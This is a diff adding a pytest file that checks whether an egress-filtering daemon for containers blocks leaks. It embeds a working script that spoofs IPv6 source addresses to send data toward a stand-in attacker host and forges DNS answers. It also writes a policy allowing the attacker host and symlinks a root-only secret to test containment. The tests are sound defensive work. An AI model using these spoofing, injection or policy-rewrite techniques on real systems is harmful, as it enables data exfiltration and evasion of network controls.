@@ -1,0 +1,175 @@
+"""What a process that knows the source tries: it is let out no further than any other."""
+
+import json
+
+import pytest
+
+from lab import dns_zone
+from lab.lab import ALLOWED, ALLOWED_V6, EVIL, EVIL_V4, EVIL_V6, UPSTREAM_V6
+from lab.waiting import wait_until
+
+# Any process may send over IPv6 from an address that is not ours: no privilege is asked for.
+FORGER = """
+import json, socket, struct, sys, time
+IPV6_FREEBIND = 78
+request = json.loads(sys.argv[1])
+
+def forging(kind, source):
+    forger = socket.socket(socket.AF_INET6, kind)
+    forger.setsockopt(socket.IPPROTO_IPV6, IPV6_FREEBIND, 1)
+    forger.settimeout(0.3)
+    forger.bind(tuple(source))
+    return forger
+
+def send(source, destination, payload):
+    forging(socket.SOCK_DGRAM, source).sendto(bytes.fromhex(payload), tuple(destination))
+
+def connect(source, destination):
+    forging(socket.SOCK_STREAM, source).connect(tuple(destination))
+
+def serve(source, own, payload):
+    server = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
+    server.settimeout(0.5)
+    server.bind((own, 7777))
+    send(source, (own, 7777), "00")
+    _, client = server.recvfrom(100)
+    server.sendto(bytes.fromhex(payload), client)
+
+def answer(source, own, uid):
+    ports = [int(line.split()[1].split(":")[1], 16) for line in open("/proc/net/udp6")
+             if line.split()[2].endswith(":0035") and line.split()[7] == uid]
+    assert ports, "no question is under way"
+    forger = forging(socket.SOCK_DGRAM, source)
+    for port in ports:
+        forger.sendto(b"x" * 40, (own, port))
+
+try:
+    globals()[request.pop("do")](**request)
+    print("ok")
+except OSError as error:
+    print(type(error).__name__, error)
+"""
+
+
+def forge(container, do, **arguments):
+    return container.run(["/usr/bin/python3", "-I", "-c", FORGER,
+                          json.dumps({"do": do, **arguments})], uid=1000).stdout.strip()
+
+
+def own_address(container):
+    listed = json.loads(container.run(["ip", "-6", "-j", "addr", "show", "dev", "eth0", "scope",
+                                       "global"]).stdout)
+    return listed[0]["addr_info"][0]["local"]
+
+
+def question(name):
+    labels = b"".join(bytes([len(label)]) + label.encode() for label in name.split("."))
+    return (b"\0\7\1\0\0\1\0\0\0\0\0\0" + labels + b"\0\0\1\0\1").hex()
+
+
+FORGED = (EVIL_V6, 9999)
+WAYS = {
+    "a server in here answers": lambda own: dict(
+        do="serve", source=FORGED, own=own, payload=b"secret".hex()),
+    "the gate answers": lambda own: dict(
+        do="send", source=FORGED, destination=("2001:db8:1::1", 53), payload=question(EVIL)),
+    "the kernel says that nobody listens": lambda own: dict(
+        do="send", source=FORGED, destination=(own, 4444), payload=b"secret".hex()),
+    "the kernel resets": lambda own: dict(
+        do="connect", source=(EVIL_V6, 443), destination=(own, 4444)),
+    "a TCP server of egressd answers": lambda own: dict(
+        do="connect", source=(EVIL_V6, 443), destination=("2001:db8:1::1", 53)),
+    "the table refuses by reset": lambda own: dict(
+        do="connect", source=(EVIL_V6, 443), destination=("2001:db8:1::1", 443)),
+    "the table refuses by ICMP": lambda own: dict(
+        do="send", source=FORGED, destination=("2001:db8:1::1", 443), payload=b"secret".hex()),
+    "a denied address": lambda own: dict(
+        do="connect", source=(EVIL_V6, 443), destination=("2001:db8:dead::1", 443)),
+}
+
+
+@pytest.mark.leak("H28", "L1")
+def test_an_answer_does_not_leave_for_a_forged_address(lab, container):
+    """Whatever answers in here would otherwise carry bytes to any host, as part of a flow."""
+    own = own_address(container)
+    lab.prove_open(lambda: forge(container, **WAYS["a server in here answers"](own)) == "ok",
+                   destination=EVIL_V6)
+    egressd = lab.egressd(allow=[ALLOWED], deny=["2001:db8:dead::/48"])
+    lab.forget()
+    for way in WAYS.values():
+        forge(container, **way(own))
+    assert container.connect(ALLOWED_V6, 443)
+    assert not lab.witness.packets(destination=EVIL_V6)
+    assert egressd.status()
+
+
+@pytest.mark.leak("H27")
+def test_nobody_in_here_answers_for_an_upstream(lab, container, zone):
+    zone.twist("slow.test", dns_zone.silence)
+    egressd = lab.egressd(allow=["slow.test"], upstream=UPSTREAM_V6)
+    asker = container.agent(another="asker")
+    asker.begin("resolve", name="slow.test", family=6)
+    wait_until(lambda: lab.dns.questions("slow.test"), "question")
+    forge(container, "answer", source=(UPSTREAM_V6, 53), own=own_address(container), uid="65053")
+    assert egressd.status()["counters"]["upstream_mismatches"] == 0
+    asker.finish()
+
+
+@pytest.mark.leak("H28")
+def test_answers_within_the_container_still_come(lab, container):
+    """The same rules must not touch services in here, at whichever of its own addresses."""
+    server = """
+import socket
+for family, address in ((2, "127.0.0.1"), (10, "::1"), (10, %r)):
+    tcp = socket.create_server((address, 7000), family=family)
+    udp = socket.socket(family, socket.SOCK_DGRAM); udp.bind((address, 7000))
+    one = socket.create_connection((address, 7000), 1); two, _ = tcp.accept()
+    two.sendall(b"tcp"); assert one.recv(3) == b"tcp"
+    client = socket.socket(family, socket.SOCK_DGRAM); client.settimeout(1)
+    client.sendto(b"?", (address, 7000)); _, peer = udp.recvfrom(1)
+    udp.sendto(b"udp", peer); assert client.recv(3) == b"udp"
+    tcp.close(); udp.close()
+""" % own_address(container)
+    lab.egressd(allow=[ALLOWED])
+    container.run(["/usr/bin/python3", "-I", "-c", server], uid=1000)
+    assert container.connect(EVIL_V4, 443).error == "ECONNREFUSED"
+    assert container.connect(EVIL_V6, 443).error == "ECONNREFUSED"
+
+
+def write_workspace(container, text):
+    container.run(["sh", "-c", "mkdir -p /var/work/.devcontainer"], uid=0)
+    container.run(["chown", "-R", "1000:1000", "/var/work"])
+    container.run(["tee", "/var/work/.devcontainer/devcontainer.json"], uid=1000, stdin=text)
+
+
+@pytest.mark.leak("L19")
+@pytest.mark.parametrize("broken", ['{"customizations": {"egressd": {"allow": ["no entry"]}}}',
+                                    '{"customizations": '], ids=["entry", "JSON"])
+def test_what_was_refused_at_first_is_not_adopted_at_a_restart(lab, container, broken):
+    """Else the agent would only have to write another policy, and wait for the next start."""
+    evil = json.dumps({"customizations": {"egressd": {"allow": [EVIL]}}})
+    container.write("/etc/egressd/feature.json", '{"workspacePolicy": "pin"}')
+    write_workspace(container, broken)
+    egressd = lab.egressd(ready=False, workspace="/var/work")
+    assert egressd.wait_answer("wait").returncode == 78
+    write_workspace(container, evil)
+    egressd.kill9()
+    egressd.start(ready=False)
+    assert egressd.wait_answer("wait").returncode == 78
+    assert container.connect(EVIL_V4, 443).error == "ECONNREFUSED"
+    egressd.ctl("apply")  # root may
+    assert container.connect(EVIL, 443)
+
+
+@pytest.mark.leak("L19")
+def test_the_pinned_copy_is_for_egressd_alone(lab, container):
+    """It may be a copy of what only root can read: the workspace can hold links."""
+    container.write("/var/secret.json", '{"auths": {}}')
+    container.run(["chmod", "600", "/var/secret.json"])
+    container.write("/etc/egressd/feature.json", '{"workspacePolicy": "pin"}')
+    write_workspace(container, "{}")
+    container.run(["ln", "-sf", "/var/secret.json", "/var/work/.devcontainer/devcontainer.json"])
+    lab.egressd(workspace="/var/work")
+    read = ["cat", "/var/lib/egressd/workspace.json"]
+    assert "auths" in container.run(read).stdout
+    assert container.run(read, uid=1000, check=False).returncode
